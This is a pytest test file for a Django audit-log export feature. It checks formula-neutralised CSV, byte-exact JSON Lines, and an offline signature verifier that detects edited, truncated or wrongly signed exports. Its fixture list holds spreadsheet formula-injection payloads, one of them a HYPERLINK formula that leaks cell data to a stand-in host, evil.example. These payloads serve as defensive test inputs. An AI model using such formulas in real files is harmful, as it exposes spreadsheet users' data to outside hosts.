"""Audit evidence an auditor can rely on (issue 14, points 1-3): formula-safe CSV, byte-exact JSON Lines,
an offline verifier that needs no PortalGov (run here from a process where Django cannot be imported),
the page's filters on the command line, and exit codes 0 / 1 / 2 everywhere."""

import base64
import csv
import datetime as dt
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse

from audits.exporting import VERIFIER_PATH, verify_manifest
from audits.models import AuditEvent
from audits.services import record_event
from audits.signing import public_key_b64

from ._export_rows import assert_stretch_names_row, jsonl_rows, run_export
from .conftest import seal_all, superuser_sql

pytestmark = [pytest.mark.postgres, pytest.mark.django_db(transaction=True)]

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
TRICKY = "tab\there, newline\nthere, back\\slash, \"quote\", vtab\x0bbell\x07 end\\N \\v"


@pytest.fixture
def log(world):
    for i, text in enumerate(FORMULAS):
        record_event("staff.updated", organization=world.org, object_type="staff.staffmember", object_id=str(i),
                     object_label=text, message=text)
    record_event("staff.updated", organization=world.org, object_label="tricky", message=TRICKY,
                 changes={"name": ["=1", TRICKY]})
    record_event("auth.login", organization=world.org, actor=world.carol, object_label="carol's sign-in")
    record_event("staff.updated", organization=world.other_org, object_label="other practice")
    seal_all()
    return world


def _export(tmp_path, fmt, **opts):
    out, manifest = run_export(tmp_path, fmt, **opts)
    return out, json.loads(manifest.read_text())


def test_csv_neutralises_formula_cells_as_every_other_export_and_the_manifest_hashes_the_file(log, tmp_path):
    out, manifest = _export(tmp_path, "csv", org="cascade")
    rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode())))
    labels = {r["object_label"] for r in rows}
    from core.csvsafe import csv_safe

    for text in FORMULAS:
        assert csv_safe(text) in labels and text not in labels
    tricky = next(r for r in rows if r["object_label"] == "tricky")
    assert tricky["changes"].startswith("{")  # JSON cells start with { and are left alone
    assert verify_manifest(manifest, [out.read_bytes()]) == []  # the hash covers the file as written


def test_web_csv_is_neutralised_too(log, client_for):
    response = client_for(log.carol).get(reverse("audit_export", args=["cascade"]), {"format": "csv"})
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(csv.DictReader(io.StringIO(archive.read("audit-export.csv").decode())))
    assert {"'" + t for t in FORMULAS} <= {r["message"] for r in rows}
    assert set(archive.namelist()) == {"audit-export.csv", "manifest.json", "verify_export.py"}
    assert archive.read("verify_export.py") == VERIFIER_PATH.read_bytes()


def test_jsonl_keeps_every_value_byte_exact(log, tmp_path):
    out, _ = _export(tmp_path, "jsonl", org="cascade")
    rows = {r["id"]: r for r in jsonl_rows(out.read_bytes())}
    event = AuditEvent.objects.get(message=TRICKY)
    assert rows[event.pk]["message"] == TRICKY
    assert json.loads(rows[event.pk]["changes"]) == {"name": ["=1", TRICKY]}
    stored = AuditEvent.objects.filter(organization_id=log.org.pk, pk__in=list(rows))
    assert len(stored) == len(rows) and all(rows[e.pk]["message"] == e.message for e in stored)


def test_command_export_takes_the_pages_filters_actor_included(log, tmp_path):
    out, manifest = _export(tmp_path, "jsonl", org="cascade", actor="carol@")
    rows = jsonl_rows(out.read_bytes())
    assert [r["object_label"] for r in rows] == ["carol's sign-in"]
    assert manifest["filter"]["actor"] == "carol@"


# --- the offline verifier, from a process without Django ----------------------------------------

def _bare_python(tmp_path) -> list[str]:
    """A Python that sees only the verifier's directory and the cryptography package (no site-packages)."""
    import cryptography

    libs = tmp_path / "libs"
    libs.mkdir(exist_ok=True)
    site = Path(cryptography.__file__).resolve().parents[1]
    for name in ("cryptography", "cffi", "pycparser"):
        if (site / name).exists() and not (libs / name).exists():
            (libs / name).symlink_to(site / name)
    for so in site.glob("_cffi_backend*.so"):
        if not (libs / so.name).exists():
            (libs / so.name).symlink_to(so)
    boot = (f"import sys; sys.path[:0] = [{str(libs)!r}]; import runpy; sys.argv = sys.argv[1:]; "
            "runpy.run_path(sys.argv[0], run_name='__main__')")
    return [sys.executable, "-I", "-S", "-c", boot]


def _offline(tmp_path, *args):
    return subprocess.run([*_bare_python(tmp_path), *args], capture_output=True, text=True, timeout=120)


def test_the_offline_process_has_no_django(tmp_path):
    can = tmp_path / "can.py"
    can.write_text("from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PublicKey\n")
    cannot = tmp_path / "cannot.py"
    cannot.write_text("import django\n")
    assert _offline(tmp_path, str(can)).returncode == 0
    probe = _offline(tmp_path, str(cannot))
    assert probe.returncode != 0 and "No module named 'django'" in probe.stderr


def test_offline_verifier_accepts_an_intact_export_and_names_an_edited_row(log, tmp_path):
    out, _ = _export(tmp_path, "jsonl")
    verifier = tmp_path / "verify_export.py"
    assert verifier.read_bytes() == VERIFIER_PATH.read_bytes()  # written beside the export
    key = public_key_b64()
    ok = _offline(tmp_path, str(verifier), str(out), "--key", key)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "OK:" in ok.stdout and "whole chain" in ok.stdout

    lines = out.read_bytes().splitlines(keepends=True)
    target = next(i for i, line in enumerate(lines) if b"other practice" in line)
    lines[target] = lines[target].replace(b"other practice", b"other practicE")  # one byte
    out.write_bytes(b"".join(lines))
    bad = _offline(tmp_path, str(verifier), str(out), "--key", key)
    assert bad.returncode == 1
    assert_stretch_names_row(bad.stdout, target)  # line 0 holds the column names: line n is row n
    assert "SHA-256 differs" in bad.stdout


def test_offline_verifier_refuses_truncated_and_other_key_exports_with_1_and_non_exports_with_2(log, tmp_path,
                                                                                                 client_for):
    response = client_for(log.carol).get(reverse("audit_export", args=["cascade"]), {"format": "jsonl"})
    zipped = tmp_path / "audit.zip"
    zipped.write_bytes(b"".join(response.streaming_content))
    verifier = tmp_path / "verify_export.py"
    verifier.write_bytes(zipfile.ZipFile(zipped).read("verify_export.py"))
    key = public_key_b64()
    assert _offline(tmp_path, str(verifier), str(zipped), "--key", key).returncode == 0

    # Truncated: the last row cut off inside the zip.
    with zipfile.ZipFile(zipped) as zf:
        data, manifest = zf.read("audit-export.jsonl"), zf.read("manifest.json")
    cut = tmp_path / "cut.zip"
    with zipfile.ZipFile(cut, "w") as zf:
        zf.writestr("audit-export.jsonl", data[: data.rstrip(b"\n").rfind(b"\n") + 1])
        zf.writestr("manifest.json", manifest)
    truncated = _offline(tmp_path, str(verifier), str(cut), "--key", key)
    assert truncated.returncode == 1 and "bytes" in truncated.stdout

    other = Ed25519PrivateKey.generate().public_key().public_bytes(serialization.Encoding.Raw,
                                                                   serialization.PublicFormat.Raw)
    wrong = _offline(tmp_path, str(verifier), str(zipped), "--key", base64.b64encode(other).decode())
    assert wrong.returncode == 1 and "another key" in wrong.stdout

    junk = tmp_path / "notes.txt"
    junk.write_text("just some notes\n")
    not_export = _offline(tmp_path, str(verifier), str(junk), "--key", key)
    assert not_export.returncode == 2 and len(not_export.stdout.strip().splitlines()) == 1


def test_offline_verifier_checks_a_checkpoint_file(log, tmp_path):
    cp = tmp_path / "checkpoint.txt"
    call_command("audit_checkpoint", output=str(cp))
    key = public_key_b64()
    assert _offline(tmp_path, str(VERIFIER_PATH), str(cp), "--key", key).returncode == 0
    text = cp.read_text().splitlines(keepends=True)
    text[1] = "3\n"
    cp.write_text("".join(text))
    forged = _offline(tmp_path, str(VERIFIER_PATH), str(cp), "--key", key)
    assert forged.returncode == 1 and "altered" in forged.stdout


# --- audit_verify: missing checkpoints, exit codes -------------------------------------------------

def test_verify_says_when_stored_checkpoints_are_missing(log, capsys):
    call_command("audit_checkpoint")
    capsys.readouterr()
    superuser_sql("DELETE FROM audits_auditcheckpoint")
    call_command("audit_verify")
    out = capsys.readouterr().out
    assert "WARNING: there are no stored checkpoints" in out and "0 checkpoints matched (0 stored)" in out
    old = dt.datetime.now(dt.UTC) - dt.timedelta(hours=3)
    superuser_sql("UPDATE audits_auditseal SET sealed_at = %s", [old])
    call_command("audit_verify")
    assert "stored checkpoints are missing" in capsys.readouterr().out


@pytest.mark.parametrize("text, code", [
    ("not a checkpoint at all\n", 2),
    ("portalgov.audit/elsewhere\n3\nAAAA\n2026-01-01T00:00:00Z\n\n\u2014 portalgov.audit/elsewhere AAAA\n", 2),
])
def test_verify_checkpoint_file_that_is_not_a_checkpoint_is_bad_input(log, tmp_path, text, code):
    path = tmp_path / "cp.txt"
    path.write_text(text)
    with pytest.raises(CommandError) as exc:
        call_command("audit_verify", "--checkpoint", str(path))
    assert exc.value.returncode == code
